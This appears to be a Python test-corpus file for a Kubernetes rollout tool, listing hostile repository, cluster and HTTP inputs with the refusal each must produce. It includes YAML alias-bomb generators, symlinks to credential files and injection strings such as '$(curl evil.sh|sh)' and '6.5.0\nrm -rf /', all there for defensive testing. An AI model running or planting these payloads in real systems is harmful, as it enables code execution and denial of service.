@@ -1,0 +1,769 @@
+"""The hostile-input corpus of issue 5 ("Prove it survives"): what a person, a broken
+tool or an attacker can put in front of the reconciler, and what it must answer.
+
+Every case is data; ``test_hostile_input.py`` turns each into a test. Three surfaces:
+
+* ``RepoCase``: a commit a person pushes to the config repository (sample-repo/ plus
+  the case's files, symlinks or hand-crafted tree entries). Checked through the real
+  CLI: ``validate`` names the file, document and field on one line; ``release
+  apps/podinfo`` either still releases (the hostile files byte-identical afterwards)
+  or is refused with one line and exit 2 (the remote head unchanged).
+* ``ClusterCase``: objects in the cluster: Rollouts with wrong types, Rollout statuses
+  of the wrong shape, ImagePolicy statuses of the wrong shape or with hostile tags.
+  Checked against the daemon (in-process, official client, API emulator): the
+  Rollout's conditions say what is wrong, nothing is committed, and no reconcile
+  ends in an unexpected exception.
+* ``HttpCase``: raw bytes on a socket to the webhook server (uvicorn, the real app):
+  bodies that lie about their size, malformed framing, hostile tags. The answer
+  is a refusal and the server keeps serving.
+
+Expected texts are fragments of the one line a person sees; ``where`` is the
+``file:line (document N) field`` part of a ``validate`` line.
+"""
+
+from __future__ import annotations
+
+import json
+from collections.abc import Callable, Mapping
+from dataclasses import dataclass, field
+from pathlib import Path
+from typing import Any
+
+ROOT = Path(__file__).resolve().parents[2]
+SAMPLE = ROOT / "sample-repo"
+APPS = "clusters/production/apps.yaml"
+PODINFO_ROLLOUT = "apps/podinfo/rollout.yaml"
+FRONTEND_OCI = "apps/frontend/ocirepository.yaml"
+MiB = 1024 * 1024
+
+
+def sample(path: str) -> bytes:
+    return (SAMPLE / path).read_bytes()
+
+
+def edit(path: str, old: bytes, new: bytes) -> bytes:
+    data = sample(path)
+    assert data.count(old) == 1, (path, old)
+    return data.replace(old, new)
+
+
+# -- building blocks ---------------------------------------------------------------------
+
+def rollout(name: str, spec: str = "  releasesImagePolicy:\n    name: podinfo\n", *,
+            head: str = "") -> bytes:
+    """A Rollout manifest in namespace apps; ``spec`` is the indented body of spec."""
+    return (f"{head}apiVersion: kuberik.com/v1alpha1\nkind: Rollout\nmetadata:\n"
+            f"  name: {name}\n  namespace: apps\nspec:\n{spec}").encode()
+
+
+def kustomization(name: str, annotations: str, substitute: str,
+                  namespace: str = "apps") -> bytes:
+    """A Flux Kustomization with ``annotations`` and ``substitute`` (indented bodies)."""
+    return (f"apiVersion: kustomize.toolkit.fluxcd.io/v1\nkind: Kustomization\nmetadata:\n"
+            f"  name: {name}\n  namespace: {namespace}\n  annotations:\n{annotations}"
+            f"spec:\n  interval: 5m\n  path: ./apps/{name}\n  postBuild:\n"
+            f"    substitute:\n{substitute}").encode()
+
+
+def lol_bomb(levels: int = 12, width: int = 9) -> bytes:
+    """The billion laughs: ``width ** levels`` strings from a few hundred bytes."""
+    lines = ['# kuberik.com', 'a0: &a0 ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
+    for i in range(1, levels):
+        lines.append(f"a{i}: &a{i} [" + ", ".join([f"*a{i - 1}"] * width) + "]")
+    return ("\n".join(lines) + "\n").encode()
+
+
+def spread_bomb(documents: int = 200) -> bytes:
+    """Aliases expanding to about 77,000 nodes per document, each document under a
+    per-document budget. While the budget was per document, these 34 KB cost about
+    300 MB and 7 s, and 10 MB of them would have wanted some 90 GB."""
+    one = (b"---\na: &a [x,x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a,*a]\n"
+           b"c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b,*b]\nd: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]\n"
+           b"e: [*d,*d,*d,*d,*d,*d,*d]\n")
+    return b"# kuberik.com\n" + one * documents
+
+
+def big_configmap(size: int, *, parsed: bool = False) -> bytes:
+    """A ConfigMap of about ``size`` bytes of ordinary keys and values; ``parsed``: it
+    names kuberik.com, so the scanner has to parse it (not only screen it out)."""
+    head = (b"apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: big\n  namespace: apps\n"
+            + (b"  labels: {owner: rollout.kuberik.com}\n" if parsed else b"") + b"data:\n")
+    line = b"  k%07d: " + b"v" * 80 + b"\n"
+    count = (size - len(head)) // len(line % 0)
+    return head + b"".join(line % i for i in range(count))
+
+
+def tiny_nodes(size: int) -> bytes:
+    """``size`` bytes of one-character flow items: the most nodes per byte YAML allows."""
+    return b"# kuberik.com\nitems: [" + b"1," * ((size - 30) // 2) + b"1]\n"
+
+
+# -- hostile tags ------------------------------------------------------------------------
+
+@dataclass(frozen=True)
+class Tag:
+    name: str
+    value: str
+    why: str  # fragment of the refusal (versions.parse)
+
+    @property
+    def shown(self) -> str:
+        text = repr(self.value)
+        return text if len(text) <= 32 else text[:28] + "...'"
+
+
+HOSTILE_TAGS: tuple[Tag, ...] = (
+    Tag("newline", "6.5.0\nrm -rf /", "'\\n' at position 6 is not allowed"),
+    Tag("double-quote", '6.5.0"; echo pwned; "', "'\"' at position 6 is not allowed"),
+    Tag("single-quote", "6.5.0'", "\"'\" at position 6 is not allowed"),
+    Tag("hash", "6.5.0 # comment", "' ' at position 6 is not allowed"),
+    Tag("spaces", " 6.5.0 ", "must start with a letter, digit or '_', not ' '"),
+    Tag("shell", "$(curl evil.sh|sh)", "must start with a letter, digit or '_', not '$'"),
+    Tag("backticks", "6.5.0`id`", "'`' at position 6 is not allowed"),
+    Tag("semicolon", "6.5.0;reboot", "';' at position 6 is not allowed"),
+    Tag("unicode-digits", "\uff16.\uff15.\uff10", "not '\uff16'"),
+    Tag("bidi-override", "6.5.0\u202e1.0", "'\\u202e' at position 6 is not allowed"),
+    Tag("nul", "6.5.0\x00", "'\\x00' at position 6 is not allowed"),
+    Tag("too-long", "6.5.0-" + "a" * 300, "at most 128"),
+)
+
+
+def yaml_string(value: str) -> str:
+    """``value`` as a YAML double-quoted scalar (JSON escapes are valid YAML)."""
+    return json.dumps(value)
+
+
+# -- repository cases ----------------------------------------------------------------------
+
+@dataclass(frozen=True)
+class Raw:
+    """A tree entry only a hand-crafted tree object can hold (``git mktree`` refuses a
+    name with ``/``): ``name`` in directory ``parent`` of the tree."""
+
+    parent: str
+    name: bytes
+    data: bytes
+    mode: bytes = b"100644"
+
+
+@dataclass(frozen=True)
+class RepoCase:
+    name: str
+    what: str
+    files: Mapping[str, bytes] = field(default_factory=dict)
+    where: str = ""  # "file:line (document N) field" fragment of the validate line
+    says: str = ""  # the message fragment on that same line
+    severity: str = "error"
+    symlinks: Mapping[str, str] = field(default_factory=dict)
+    raw: tuple[Raw, ...] = ()
+    # ``release apps/podinfo 6.5.0 --push``: "released" (exit 0; the hostile files
+    # unchanged), "refused" (exit 2; one error line with ``refused``; head unchanged)
+    # or "rewrites" (the hostile value is a target: replaced as ``rewrite`` says).
+    release: str = "released"
+    refused: tuple[str, ...] = ()
+    rewrite: tuple[tuple[bytes, bytes], ...] = ()
+    heavy: bool = False  # big input: its validate runs in a child whose peak RSS is measured
+    slow: bool = False  # only with --runslow (the same limit as a faster case, more costly)
+
+    @property
+    def validate_exit(self) -> int:
+        return 1 if self.severity == "error" else 0  # warnings alone, or nothing: 0
+
+    @property
+    def hostile_paths(self) -> tuple[str, ...]:
+        return tuple(self.files) + tuple(self.symlinks)
+
+    @property
+    def combinable(self) -> bool:
+        """Its files are all its own (under apps/hostile/) and podinfo still releases:
+        it can share a commit with the others."""
+        return not self.raw and self.release == "released" and all(
+            p.startswith("apps/hostile/") for p in self.hostile_paths)
+
+
+def _h(name: str) -> str:
+    return f"apps/hostile/{name}.yaml"
+
+
+REPO_CASES: tuple[RepoCase, ...] = (
+    # -- malformed YAML ----------------------------------------------------------------
+    RepoCase("yaml-unclosed-flow", "a flow sequence never closed",
+             {_h("yaml-unclosed-flow"): b"# kuberik.com\nkind: Kustomization\nspec: [\n"},
+             where=f"{_h('yaml-unclosed-flow')} (document 1)", says="line 4, column 1"),
+    RepoCase("yaml-bad-indentation", "a Rollout whose spec is indented wrongly",
+             {_h("yaml-bad-indentation"): rollout("bad-indent",
+                                                  "  maxBump: minor\n bakeTime: 5m\n")},
+             where=f"{_h('yaml-bad-indentation')} (document 1)", says="line 8"),
+    RepoCase("yaml-tab-indentation", "a tab used as indentation",
+             {_h("yaml-tab-indentation"): rollout("tabbed", "\tmaxBump: minor\n")},
+             where=f"{_h('yaml-tab-indentation')} (document 1)",
+             says="found character '\\t' that cannot start any token"),
+    RepoCase("yaml-unterminated-quote", "a double-quoted scalar that never ends",
+             {_h("yaml-unterminated-quote"): rollout("quote", '  wantedVersion: "6.5.0\n')},
+             where=f"{_h('yaml-unterminated-quote')} (document 1)", says="line"),
+    RepoCase("yaml-invalid-utf8", "bytes that are not UTF-8 (Latin-1 ä)",
+             {_h("yaml-invalid-utf8"): rollout("latin", "  policy: standard\n").replace(
+                 b"standard", b"st\xe4ndard")},
+             where=_h("yaml-invalid-utf8"), says="line 7: not valid UTF-8 (byte 0xe4"),
+    RepoCase("yaml-control-character", "a raw escape character (ESC) in a value",
+             {_h("yaml-control-character"): rollout("ctrl", "  policy: \x1b[2Jstandard\n")},
+             where=_h("yaml-control-character"), says="unacceptable character #x001b"),
+    RepoCase("yaml-error-in-third-document", "documents 1 and 2 fine, document 3 broken",
+             {_h("yaml-error-in-third-document"):
+              b"# kuberik.com\n---\na: 1\n---\nb: 2\n---\nc: [\n"},
+             where=f"{_h('yaml-error-in-third-document')} (document 3)", says="line 8"),
+    RepoCase("yaml-unsupported-version", "a %YAML 2.0 directive",
+             {_h("yaml-unsupported-version"): b"%YAML 2.0\n--- # kuberik.com\na: 1\n"},
+             where=f"{_h('yaml-unsupported-version')} (document 1)",
+             says="found incompatible YAML document"),
+    RepoCase("yaml-broken-target-file", "the file holding podinfo's targets does not parse",
+             {APPS: edit(APPS, b"  postBuild:\n", b"  postBuild: [\n")},
+             where=f"{APPS} (document 1)", says="line 24, column 22",
+             release="refused",
+             refused=(f"{PODINFO_ROLLOUT} (document 1): no annotated target for apps/podinfo",
+                      f"was skipped, which is never read or rewritten: error: {APPS} "
+                      "(document 1): line 24, column 22")),
+    # -- duplicate keys ----------------------------------------------------------------
+    RepoCase("duplicate-key-target", "PODINFO_VERSION twice in podinfo's substitutes",
+             {APPS: edit(APPS, b'      PODINFO_UI_TAG: "6.4.0"\n',
+                         b'      PODINFO_UI_TAG: "6.4.0"\n      PODINFO_VERSION: "9.9.9"\n')},
+             where=f"{APPS} (document 1) spec.postBuild.substitute.PODINFO_VERSION",
+             says="line 26: duplicate key 'PODINFO_VERSION' (first at line 24)",
+             release="refused", refused=("no annotated target for apps/podinfo",
+                                         "duplicate key 'PODINFO_VERSION'")),
+    RepoCase("duplicate-key-metadata", "a Rollout with metadata written twice",
+             {_h("duplicate-key-metadata"): rollout("dup").replace(
+                 b"spec:", b"metadata:\n  name: other\nspec:")},
+             where=f"{_h('duplicate-key-metadata')} (document 1) metadata",
+             says="line 6: duplicate key 'metadata' (first at line 3)"),
+    RepoCase("duplicate-key-quoting", "tag and \"tag\": one key in two quoting styles",
+             {FRONTEND_OCI: edit(FRONTEND_OCI, b'ref: {tag: "1.4.2"}',
+                                 b'ref: {tag: "1.4.2", "tag": "9.9.9"}')},
+             where=f"{FRONTEND_OCI} (document 1) spec.ref.tag",
+             says="line 12: duplicate key 'tag' (first at line 12)"),
+    RepoCase("duplicate-rollout", "apps/podinfo defined a second time in another file",
+             {_h("duplicate-rollout"): rollout("podinfo", "  maxBump: major\n")},
+             where=f"{PODINFO_ROLLOUT}:1 (document 1) metadata.name",
+             says="Rollout apps/podinfo is also defined in apps/hostile/duplicate-rollout.yaml",
+             release="refused", refused=("Rollout apps/podinfo is also defined in",)),
+    # -- aliases -----------------------------------------------------------------------
+    RepoCase("alias-billion-laughs", "the billion laughs: 9^12 strings from 685 bytes",
+             {_h("alias-billion-laughs"): lol_bomb()},
+             where=f"{_h('alias-billion-laughs')} (document 1)",
+             says="aliases expand to more than 100000 extra nodes in this file", heavy=True),
+    RepoCase("alias-bomb-spread-over-documents",
+             "200 documents each just under a per-document alias budget",
+             {_h("alias-bomb-spread-over-documents"): spread_bomb()},
+             where=f"{_h('alias-bomb-spread-over-documents')} (document 2)",
+             says="refusing a possible alias bomb", heavy=True),
+    RepoCase("alias-recursive", "an anchor whose node contains its own alias",
+             {_h("alias-recursive"): b"# kuberik.com\na: &a [1, *a]\n"},
+             where=f"{_h('alias-recursive')} (document 1)",
+             says="alias *a refers to a node that contains it"),
+    RepoCase("alias-undefined", "an alias to an anchor that does not exist",
+             {_h("alias-undefined"): rollout("undefined-alias", "  policy: *nope\n")},
+             where=f"{_h('alias-undefined')} (document 1)",
+             says="alias *nope is not defined before it is used"),
+    RepoCase("alias-as-target", "podinfo's target value is an alias",
+             {APPS: edit(APPS, b'      PODINFO_UI_TAG: "6.4.0"\n',
+                         b'      PODINFO_UI_TAG: *ui\n').replace(
+                 b"  interval: 5m\n  path: ./apps/podinfo",
+                 b'  interval: &ui "6.4.0"\n  path: ./apps/podinfo')},
+             where=f"{APPS}:3 (document 1) spec.postBuild.substitute.PODINFO_UI_TAG",
+             says="line 25: the value is the alias *ui; edit the anchored node instead",
+             release="refused",
+             refused=(f"{APPS} (document 1) spec.postBuild.substitute.PODINFO_UI_TAG: line 25: "
+                      "the value is the alias *ui",)),
+    RepoCase("merge-key-target", "the OCIRepository's tag only comes from a merge key",
+             {FRONTEND_OCI: edit(FRONTEND_OCI, b'  ref: {tag: "1.4.2"}',
+                                 b'  base: &base {tag: "1.4.2"}\n  ref: {<<: *base}')},
+             where=f"{FRONTEND_OCI}:2 (document 1) spec.ref.tag",
+             says="line 13: not set here but possibly through a merge key (<<)"),
+    # -- size and depth ----------------------------------------------------------------
+    RepoCase("manifest-10mb-unrelated", "a 10 MB ConfigMap that names no kuberik.com",
+             {_h("manifest-10mb-unrelated"): big_configmap(10_000_000)},
+             severity="none", heavy=True),
+    RepoCase("manifest-10mb-parsed", "a 10 MB ConfigMap that names kuberik.com (parsed up "
+             "to the node limit)",
+             {_h("manifest-10mb-parsed"): big_configmap(10_000_000, parsed=True)},
+             where=f"{_h('manifest-10mb-parsed')} (document 1)",
+             says="more than 100000 nodes in one file are refused", heavy=True, slow=True),
+    RepoCase("manifest-over-10mib", "a manifest one byte over 10 MiB",
+             {_h("manifest-over-10mib"): b"# kuberik.com\n" + b"#" * (10 * MiB - 13)},
+             where=_h("manifest-over-10mib"),
+             says=f"file is {10 * MiB + 1} bytes; manifests larger than {10 * MiB} bytes",
+             heavy=True),
+    RepoCase("manifest-10mb-of-tiny-nodes", "10 MB of one-character items (5 million nodes)",
+             {_h("manifest-10mb-of-tiny-nodes"): tiny_nodes(10_000_000)},
+             where=f"{_h('manifest-10mb-of-tiny-nodes')} (document 1)",
+             says="more than 100000 nodes in one file are refused", heavy=True),
+    RepoCase("many-empty-documents", "300,000 empty documents",
+             {_h("many-empty-documents"): b"# kuberik.com\n" + b"---\n" * 300_000},
+             where=f"{_h('many-empty-documents')} (document 100001)",
+             says="more than 100000 nodes in one file are refused", heavy=True, slow=True),
+    RepoCase("deep-flow-nesting", "100,000 nested flow sequences",
+             {_h("deep-flow-nesting"): b"# kuberik.com\nx: " + b"[" * 100_000 + b"\n"},
+             where=f"{_h('deep-flow-nesting')} (document 1)",
+             says="nesting deeper than 100 levels is refused", heavy=True),
+    RepoCase("deep-block-nesting", "2,000 levels of block mappings",
+             {_h("deep-block-nesting"): b"# kuberik.com\n" + b"".join(
+                 b" " * i + b"k:\n" for i in range(2000))},
+             where=f"{_h('deep-block-nesting')} (document 1)",
+             says="line 102: nesting deeper than 100 levels is refused"),
+    RepoCase("deep-nesting-through-aliases", "60 levels aliased into 60 more",
+             {_h("deep-nesting-through-aliases"): b"# kuberik.com\na: &a " + b"[" * 60
+              + b"]" * 60 + b"\nb: " + b"[" * 60 + b"*a" + b"]" * 60 + b"\n"},
+             where=f"{_h('deep-nesting-through-aliases')} (document 1)",
+             says="nesting deeper than 100 levels (through aliases) is refused"),
+    RepoCase("long-key", "a 100 KB mapping key", {
+        _h("long-key"): b"# kuberik.com\n" + b"k" * 100_000 + b": 1\n"},
+             where=f"{_h('long-key')} (document 1)",
+             says="mapping values are not allowed here"),
+    # -- annotations -------------------------------------------------------------------
+    RepoCase("annotation-missing-field", "a substitute annotation for a variable not set",
+             {_h("annotation-missing-field"): kustomization(
+                 "missing", "    rollout.kuberik.com/substitute.NOPE.from: podinfo\n",
+                 '      OTHER: "1"\n')},
+             where=f"{_h('annotation-missing-field')}:1 (document 1) "
+                   "spec.postBuild.substitute.NOPE",
+             says="annotated for rollout apps/podinfo but the field is missing",
+             release="refused",
+             refused=(f"{_h('annotation-missing-field')} (document 1) "
+                      "spec.postBuild.substitute.NOPE: annotated for rollout apps/podinfo but "
+                      "the field is missing",)),
+    RepoCase("annotation-other-namespace", "an annotation naming a rollout in a namespace "
+             "that has none",
+             {_h("annotation-other-namespace"): kustomization(
+                 "elsewhere", "    rollout.kuberik.com/substitute.V.from: staging/podinfo\n",
+                 '      V: "6.4.0"\n')},
+             where=f"{_h('annotation-other-namespace')}:13 (document 1) "
+                   "spec.postBuild.substitute.V",
+             says="annotation names rollout staging/podinfo, but no Rollout manifest"),
+    RepoCase("annotation-bare-name-other-namespace", "a bare rollout name resolved in the "
+             "annotated object's namespace (flux-system), where there is none",
+             {_h("annotation-bare-name-other-namespace"): kustomization(
+                 "bare", "    rollout.kuberik.com/substitute.V.from: podinfo\n",
+                 '      V: "6.4.0"\n', namespace="flux-system")},
+             where=f"{_h('annotation-bare-name-other-namespace')}:13 (document 1) "
+                   "spec.postBuild.substitute.V",
+             says="annotation names rollout flux-system/podinfo, but no Rollout manifest"),
+    RepoCase("annotation-path-traversal", "an annotation value ../../podinfo",
+             {_h("annotation-path-traversal"): kustomization(
+                 "traversal", "    rollout.kuberik.com/substitute.V.from: ../../podinfo\n",
+                 '      V: "6.4.0"\n')},
+             where=f"{_h('annotation-path-traversal')}:1 (document 1) "
+                   "metadata.annotations[rollout.kuberik.com/substitute.V.from]",
+             says="'../../podinfo' is not a rollout name"),
+    RepoCase("annotation-value-a-list", "an annotation whose value is a list",
+             {_h("annotation-value-a-list"): kustomization(
+                 "listed", "    rollout.kuberik.com/substitute.V.from: [podinfo]\n",
+                 '      V: "6.4.0"\n')},
+             where="metadata.annotations[rollout.kuberik.com/substitute.V.from]",
+             says="must name a rollout as name or namespace/name"),
+    RepoCase("annotation-key-with-newline", "an annotation key holding a newline and a "
+             "forged 'error:' line",
+             {_h("annotation-key-with-newline"): kustomization(
+                 "forged", '    "rollout.kuberik.com/x\\nerror: all good": podinfo\n',
+                 '      V: "6.4.0"\n')},
+             where="metadata.annotations[rollout.kuberik.com/x\\nerror: all good]",
+             says="unknown rollout.kuberik.com annotation", severity="warning"),
+    RepoCase("annotation-on-configmap", "rollout.kuberik.com/rollout on a ConfigMap",
+             {_h("annotation-on-configmap"):
+              b"apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: c\n  namespace: apps\n"
+              b"  annotations:\n    rollout.kuberik.com/rollout: podinfo\ndata: {}\n"},
+             where=f"{_h('annotation-on-configmap')}:1 (document 1) "
+                   "metadata.annotations[rollout.kuberik.com/rollout]",
+             says="only works on a Flux OCIRepository", release="refused",
+             refused=("metadata.annotations[rollout.kuberik.com/rollout]: "
+                      "rollout.kuberik.com/rollout only works on a Flux OCIRepository",)),
+    RepoCase("annotation-bad-variable", "a substitute variable name with a dash",
+             {_h("annotation-bad-variable"): kustomization(
+                 "dash", "    rollout.kuberik.com/substitute.A-B.from: podinfo\n",
+                 '      A-B: "6.4.0"\n')},
+             where="metadata.annotations[rollout.kuberik.com/substitute.A-B.from]",
+             says="'A-B' is not a valid substitution variable name", release="refused",
+             refused=("'A-B' is not a valid substitution variable name",)),
+    RepoCase("target-a-number", "a target value that YAML reads as the number 1.1",
+             {_h("target-a-number"): kustomization(
+                 "number", "    rollout.kuberik.com/substitute.V.from: podinfo\n",
+                 "      V: 1.10\n")},
+             where=f"{_h('target-a-number')}:1 (document 1) spec.postBuild.substitute.V",
+             says="must be a string, found 1.1; quote it", release="refused",
+             refused=(f"{_h('target-a-number')} (document 1) spec.postBuild.substitute.V: "
+                      "must be a string, found 1.1; quote it",)),
+    RepoCase("target-through-a-sequence", "spec.ref is a sequence, not a mapping",
+             {FRONTEND_OCI: edit(FRONTEND_OCI, b'ref: {tag: "1.4.2"}', b'ref: ["1.4.2"]')},
+             where=f"{FRONTEND_OCI}:2 (document 1) spec.ref.tag",
+             says="line 12: expected a mapping at spec.ref, found a sequence"),
+    RepoCase("target-holds-hostile-value", "podinfo's target holds a newline and a "
+             "shell command",
+             {APPS: edit(APPS, b'PODINFO_UI_TAG: "6.4.0"',
+                         b'PODINFO_UI_TAG: "6.4.0\\n$(reboot)"')},
+             where="warning: apps/podinfo/rollout.yaml:1 (document 1)",
+             says="spec.postBuild.substitute.PODINFO_UI_TAG=6.4.0\\n$(reboot)",
+             severity="warning", release="rewrites",
+             rewrite=((b'"6.4.0\\n$(reboot)"', b'"6.5.0"'),
+                      (b'PODINFO_VERSION: "6.4.0"', b'PODINFO_VERSION: "6.5.0"'))),
+    RepoCase("two-rollouts-claim-one-field", "frontend's tag annotated for podinfo too, "
+             "in a second copy of the OCIRepository",
+             {_h("two-rollouts-claim-one-field"): sample(FRONTEND_OCI).replace(
+                 b"rollout.kuberik.com/rollout: frontend",
+                 b"rollout.kuberik.com/rollout: podinfo")},
+             where=f"{_h('two-rollouts-claim-one-field')}:12 (document 1) spec.ref.tag",
+             says="OCIRepository apps/frontend spec.ref.tag is claimed by several rollouts "
+                  "(apps/frontend, apps/podinfo); none of them will write it",
+             release="refused", refused=("is claimed by several rollouts",)),
+    # -- the Rollout itself ------------------------------------------------------------
+    RepoCase("rollout-wrong-api-version", "kind Rollout in kuberik.com/v2",
+             {_h("rollout-wrong-api-version"): rollout("v2").replace(b"v1alpha1", b"v2")},
+             where=f"{_h('rollout-wrong-api-version')}:1 (document 1) apiVersion",
+             says="must be one of 'kuberik.com/v1alpha1', got 'kuberik.com/v2'"),
+    RepoCase("rollout-without-name", "a Rollout whose name is a list",
+             {_h("rollout-without-name"): rollout("[a, b]")},
+             where=f"{_h('rollout-without-name')}:1 (document 1) metadata.name",
+             says="a Rollout needs a name"),
+    RepoCase("rollout-spec-a-string", "spec: a string",
+             {_h("rollout-spec-a-string"): rollout("spec-string").replace(
+                 b"spec:\n  releasesImagePolicy:\n    name: podinfo\n", b"spec: fast please\n")},
+             where=f"{_h('rollout-spec-a-string')}:1 (document 1) spec",
+             says="Input should be a valid dictionary or instance of RolloutSpec, "
+                  "got 'fast please'"),
+    RepoCase("rollout-podinfo-wrong-type", "podinfo's own bakeTime is the number 5",
+             {PODINFO_ROLLOUT: edit(PODINFO_ROLLOUT, b"bakeTime: 5m ", b"bakeTime: 5  ")},
+             where=f"{PODINFO_ROLLOUT}:1 (document 1) spec.bakeTime",
+             says="Input should be a valid string, got 5",
+             release="refused",
+             refused=(f"{PODINFO_ROLLOUT} (document 1) spec.bakeTime: Rollout apps/podinfo "
+                      "has an invalid spec: Input should be a valid string, got 5",)),
+    RepoCase("rollout-duration-overflow", "bakeTime: 99999999999999999999h (an "
+             "OverflowError once)",
+             {_h("rollout-duration-overflow"): rollout(
+                 "overflow", "  bakeTime: 99999999999999999999h\n")},
+             where=f"{_h('rollout-duration-overflow')}:1 (document 1) spec.bakeTime",
+             says="is longer than the longest Go duration"),
+    # -- paths -------------------------------------------------------------------------
+    RepoCase("symlink-outside-repository", "a .yaml symlink to /etc/passwd",
+             symlinks={_h("symlink-outside-repository"): "/etc/passwd"},
+             where=_h("symlink-outside-repository"),
+             says="a symbolic link to '/etc/passwd', outside the repository; it is never "
+                  "followed"),
+    RepoCase("symlink-climbing-out", "a .yaml symlink to ../../../../root/.ssh/id_rsa",
+             symlinks={_h("symlink-climbing-out"): "../../../../root/.ssh/id_rsa"},
+             where=_h("symlink-climbing-out"), says="outside the repository"),
+    RepoCase("symlink-replaces-target-file", "podinfo's target file replaced by a symlink "
+             "to a copy in /tmp",
+             symlinks={APPS: "/tmp/apps.yaml"},
+             where=APPS, says="a symbolic link to '/tmp/apps.yaml', outside the repository",
+             release="refused",
+             refused=("no annotated target for apps/podinfo",
+                      f"{APPS}: a symbolic link to '/tmp/apps.yaml'")),
+    RepoCase("symlink-inside-repository", "a .yaml symlink to podinfo's target file",
+             symlinks={_h("symlink-inside-repository"): "../../" + APPS},
+             where=_h("symlink-inside-repository"),
+             says="a symbolic link to '../../clusters/production/apps.yaml'; links are "
+                  "never followed", severity="warning"),
+    RepoCase("path-traversal-name", "a tree entry named ../escape.yaml (hand-crafted tree)",
+             raw=(Raw("apps", b"../escape.yaml", b"# kuberik.com\nkind: [\n"),),
+             where="apps/'../escape.yaml'",
+             says="a tree entry named '../escape.yaml', which git itself refuses"),
+    RepoCase("path-traversal-deep-name", "a tree entry named a/../../../b.yaml",
+             raw=(Raw("", b"a/../../../b.yaml", b"# kuberik.com\nkind: [\n"),),
+             where="'a/../../../b.yaml'", says="which git itself refuses as a path"),
+    RepoCase("path-dotdot-directory", "a directory named .. holding a Rollout",
+             raw=(Raw("apps", b"..", rollout("dotdot"), mode=b"40000"),),
+             where="apps/'..'", says="a tree entry named '..'"),
+    RepoCase("path-shadows-target-file", "a root entry named clusters/production/apps.yaml "
+             "that would shadow the real file",
+             raw=(Raw("", APPS.encode(), sample(APPS).replace(b'"6.4.0"', b'"0.0.1"')),),
+             where=f"'{APPS}'", says="which git itself refuses as a path"),
+    RepoCase("path-dot-git", "a directory named .git holding a manifest",
+             raw=(Raw("", b".git", b"# kuberik.com\nkind: [\n", mode=b"40000"),),
+             where="'.git'", says="a tree entry named '.git'"),
+    RepoCase("file-name-with-newline", "a broken manifest whose name holds a newline and a "
+             "forged line", {"apps/x\nerror: forged.yaml": b"# kuberik.com\nkind: [\n"},
+             where="apps/x\\nerror: forged.yaml (document 1)", says="line 3, column 1"),
+    RepoCase("file-name-shell-and-unicode", "a broken manifest named $(reboot) ü ;.yaml",
+             {"apps/$(reboot) \u00fc ;.yaml": b"# kuberik.com\nkind: [\n"},
+             where="apps/$(reboot) \u00fc ;.yaml (document 1)", says="line 3, column 1"),
+)
+
+
+def hostile_tag_repo_case(tag: Tag) -> RepoCase:
+    """podinfo pinned by wantedVersion to a hostile tag, in the repository."""
+    pinned = edit(PODINFO_ROLLOUT, b"  bakeTime: 5m",
+                  f"  wantedVersion: {yaml_string(tag.value)}\n  bakeTime: 5m".encode())
+    return RepoCase(f"wanted-version-{tag.name}", f"spec.wantedVersion {tag.shown}",
+                    {PODINFO_ROLLOUT: pinned},
+                    where=f"{PODINFO_ROLLOUT}:1 (document 1) spec.wantedVersion",
+                    says=tag.why)
+
+
+# -- cluster cases -------------------------------------------------------------------------
+
+ROLLOUT_API = "kuberik.com/v1alpha1"
+IMAGE_API = "image.toolkit.fluxcd.io/v1"
+
+
+@dataclass(frozen=True)
+class ClusterCase:
+    """A hostile object in the cluster and the condition the daemon must write on it.
+
+    Each case has its own Rollout ``apps/<name>``: with ``spec`` (wrong types), or a
+    valid spec naming its own ImagePolicy ``apps/<name>``, whose status is
+    ``image_policy`` (wrong shapes, hostile tags). ``status`` is written on the
+    Rollout first (anyone with access to the status subresource can write one).
+    ``targeted`` cases also get a Rollout manifest and an annotated OCIRepository in
+    the repository, so the daemon goes as far as reading the ImagePolicy.
+    ``condition`` is (type, status, reason); ``says``, fragments of its message.
+    """
+
+    name: str
+    what: str
+    condition: tuple[str, str, str]
+    says: tuple[str, ...]
+    spec: Any = None
+    status: Any = None
+    image_policy: Any = None
+    targeted: bool = False
+
+    def manifest(self) -> dict[str, Any]:
+        spec = {"releasesImagePolicy": {"name": self.name}} if self.spec is None else self.spec
+        return {"apiVersion": ROLLOUT_API, "kind": "Rollout",
+                "metadata": {"name": self.name, "namespace": "apps"}, "spec": spec}
+
+    def image_policy_object(self) -> dict[str, Any]:
+        return {"apiVersion": IMAGE_API, "kind": "ImagePolicy",
+                "metadata": {"name": self.name, "namespace": "apps"},
+                "spec": {"imageRepositoryRef": {"name": self.name},
+                         "policy": {"semver": {"range": ">=1.0.0"}}}}
+
+    def repo_files(self) -> dict[str, bytes]:
+        """The Rollout manifest and an OCIRepository whose tag it owns."""
+        if not self.targeted:
+            return {}
+        oci = (f"---\napiVersion: source.toolkit.fluxcd.io/v1\nkind: OCIRepository\n"
+               f"metadata:\n  name: {self.name}\n  namespace: apps\n  annotations:\n"
+               f"    rollout.kuberik.com/rollout: {self.name}\nspec:\n"
+               f"  url: oci://ghcr.io/example/{self.name}\n  ref:\n    tag: \"1.0.0\"\n")
+        return {f"apps/cluster-cases/{self.name}.yaml":
+                rollout(self.name, f"  releasesImagePolicy:\n    name: {self.name}\n")
+                + oci.encode()}
+
+
+def _invalid(name: str, spec: Any, fragment: str, what: str) -> ClusterCase:
+    return ClusterCase(name, what, ("Stalled", "True", "InvalidSpec"), (fragment,), spec=spec)
+
+
+def _no_candidate(name: str, what: str, status: Any, *says: str) -> ClusterCase:
+    return ClusterCase(name, what, ("Ready", "False", "ImagePolicyNotReady"),
+                       (f"ImagePolicy apps/{name} {says[0]}", *says[1:]),
+                       image_policy=status, targeted=True)
+
+
+def _no_target(name: str, what: str, status: Any) -> ClusterCase:
+    return ClusterCase(name, what, ("Stalled", "True", "SetupError"), (
+        f"no annotated target for apps/{name} in the repository",), status=status)
+
+
+CLUSTER_CASES: tuple[ClusterCase, ...] = (
+    _invalid("spec-a-string", "just a string",
+             "spec: Input should be a valid dictionary", "spec: a string"),
+    _invalid("spec-a-list", [1, 2], "spec: Input should be a valid dictionary", "spec: a list"),
